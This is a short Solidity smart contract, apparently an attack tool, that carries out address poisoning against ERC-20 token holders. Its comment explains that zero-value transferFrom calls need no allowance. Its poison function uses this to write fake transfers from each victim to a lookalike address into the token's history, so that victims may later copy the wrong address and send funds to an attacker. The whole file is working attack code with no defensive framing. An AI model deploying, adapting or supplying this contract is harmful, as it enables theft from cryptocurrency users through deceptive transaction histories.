// SPDX-License-Identifier: Apache-2.0
pragma solidity ^0.8.20;

interface IToken20 {
    function transferFrom(address from, address to, uint256 value) external returns (bool);
}

/// Writes false entries into strangers' histories. A transfer of zero needs no allowance, so anyone can make a token say
/// that a victim paid an address that looks like one the victim really paid.
contract Poisoner {
    function poison(IToken20 token, address[] calldata victims, address[] calldata lookalikes) external {
        for (uint256 i = 0; i < victims.length; i++) token.transferFrom(victims[i], lookalikes[i], 0);
    }
}
